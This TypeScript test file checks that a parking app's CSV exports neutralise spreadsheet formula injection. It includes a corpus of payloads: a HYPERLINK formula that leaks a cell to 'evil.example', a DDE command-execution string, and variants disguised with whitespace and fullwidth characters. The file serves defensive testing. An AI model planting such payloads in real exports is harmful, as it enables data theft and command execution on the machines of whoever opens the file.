import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { readCsv } from '../support/csv.ts';
import { story } from '../support/databases.ts';
import { HOUR } from '../support/manual-clock.ts';
import { Site } from '../support/parkwire.ts';

/** What begins a formula, and what hides that it does. */
const CORPUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200b=1+1',
  '＝1+1',
  '","=1+1',
  '"=1+1',
  'x;=1+1',
  "'=1+1",
];
const KINDS = ['bookings', 'stays', 'transfers', 'messages'];

/** A cell as a spreadsheet sees it, also where semicolons part its columns. */
function expectHarmless(cell: string, where: string): void {
  // A number alone is what a column of numbers is for.
  if (/^-?\d+$/.test(cell)) return;
  expect(cell, where).to.not.match(/^[=+\-@\t\r\n]/);
  for (const part of cell.split(';')) expect(part, where).to.not.match(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
}

story('formulas in what drivers write', () => {
  let site: Site;
  let folder: string;

  beforeEach(async () => {
    folder = mkdtempSync(join(tmpdir(), 'parkwire-csv-'));
    site = await Site.start({ environment: { CSV_EXPORT_DIR: folder } });
  });

  afterEach(async () => {
    await site.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  it('are formulas in no cell of any export', async function () {
    this.timeout(60_000);
    const phoneOf = (n: number) => `+9198123450${String(n).padStart(2, '0')}`;
    for (const [n, evil] of CORPUS.entries()) {
      const phone = phoneOf(n);
      const booked = await site.text(phone, 'book A', { ProfileName: evil });
      expect(booked).to.match(/^✅/);
      await site.text(phone, evil, { ProfileName: evil });
      await site.text(phone, `plate ${evil}`, { ProfileName: evil });
      const { id } = await site.driver(phone);
      await site.api.post(`/api/drivers/${id}/top-ups`, { amountMinor: 500, reason: evil });
      await site.parkwire.unitOfWork.run(async (tx) => {
        const [driver] = await tx.drivers.byIds([id]);
        if (driver) await tx.drivers.saveDetails({ ...driver, displayName: evil, plate: evil });
        const [booking] = await tx.bookings.currentOfDrivers([id]);
        if (booking) tx.bookings.save({ ...booking, notes: evil, addOns: [{ code: 'x', name: evil, priceMinor: 1 }] });
      });
      await site.api.post(`/api/lots/main/slots/A/observations`, { type: 'occupied' });
      site.clock.advance(HOUR);
      await site.api.post(`/api/lots/main/slots/A/observations`, { type: 'vacated' });
      site.clock.advance(HOUR);
    }
    for (const kind of KINDS) {
      const { text, status } = await site.api.request('GET', `/api/lots/main/exports/${kind}.csv`);
      expect(status, text).to.equal(200);
      const rows = readCsv(text);
      expect(rows.length, kind).to.be.greaterThan(CORPUS.length);
      for (const row of rows) {
        expect(row.length, `${kind}: ${row}`).to.equal(rows[0]!.length);
        for (const cell of row) expectHarmless(cell, `${kind}: ${JSON.stringify(row)}`);
      }
      // Nothing was lost of it either, and a phone number is whole.
      const cells = new Set(rows.flat());
      expect(cells.has(`'${phoneOf(0)}`), kind).to.equal(true);
      expect(cells.has(`'=HYPERLINK("http://evil.example/?"&A1,"click")`), kind).to.equal(true);
    }
    await site.parkwire.jobs.bookingFiles();
    const rows = readCsv(readFileSync(join(folder, 'lot_main_bookings.csv'), 'utf8'));
    expect(rows).to.have.length(CORPUS.length + 1);
    for (const row of rows) {
      expect(row).to.have.length(7);
      for (const cell of row) expectHarmless(cell, JSON.stringify(row));
    }
  });

  it('leave a negative amount a number', async () => {
    await site.text('+919812345678', 'book A');
    await site.api.post(`/api/lots/main/slots/A/observations`, { type: 'occupied' });
    site.clock.advance(HOUR);
    await site.api.post(`/api/lots/main/slots/A/observations`, { type: 'vacated' });
    const { text } = await site.api.request('GET', '/api/lots/main/exports/transfers.csv');
    const [header = [], ...rows] = readCsv(text);
    const charge = rows.find((row) => row[header.indexOf('kind')] === 'charge');
    expect(charge?.[header.indexOf('amount_minor')]).to.equal('-200');
  });
});
